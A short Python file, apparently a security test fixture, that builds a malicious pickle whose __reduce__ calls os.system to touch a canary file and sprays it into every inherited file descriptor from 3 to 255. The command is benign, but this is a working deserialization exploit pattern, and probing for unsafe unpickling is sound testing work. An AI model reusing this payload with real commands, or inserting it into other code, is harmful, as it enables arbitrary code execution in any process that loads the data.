"""Writes a pickle whose loading would run a command into every inherited descriptor."""
import os
import pickle


class Payload:
    def __init__(self, canary):
        self.canary = canary

    def __reduce__(self):
        return (os.system, (f"touch {self.canary}",))


def open_fds():
    return sorted(int(fd) for fd in os.listdir("/proc/self/fd"))


def forward(canary):
    junk = pickle.dumps({"ok": True, "value": Payload(canary)})
    for fd in range(3, 256):
        try:
            os.write(fd, junk)
        except OSError:
            pass
    return "wrote"
